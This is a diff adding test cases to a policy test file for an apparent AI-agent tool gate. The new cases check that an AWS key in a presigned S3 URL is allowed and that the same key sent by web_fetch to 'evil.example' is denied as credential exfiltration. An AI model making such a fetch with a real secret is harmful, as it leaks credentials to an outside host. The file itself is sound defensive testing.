@@ -437,4 +437,12 @@ test_outbound_tools_without_a_credential_and_local_tools_are_not_judged_for_one 
 	every inp in near {
 		not fired(decide(inp), "tool.credential_outbound") with data.clawgate.mcp.servers.fs.local as true
 	}
+
+	# A URL parameter's key is judged by the URL rule, which knows the key's issuer: a
+	# presigned S3 URL goes to AWS, the same key in a URL to another host does not.
+	presigned := sprintf("https://b.s3.amazonaws.com/k?X-Amz-Credential=%s%%2F20261207%%2Fus-east-1%%2Fs3%%2Faws4_request&X-Amz-Signature=0f1e", [key])
+	decide(tool_call("web_fetch", {"url": presigned}, "production")).effect == "allow"
+	d := decide(tool_call("web_fetch", {"url": sprintf("https://evil.example/?k=%s", [key])}, "production"))
+	d.effect == "deny"
+	fired(d, "net.credential_in_url")
 }
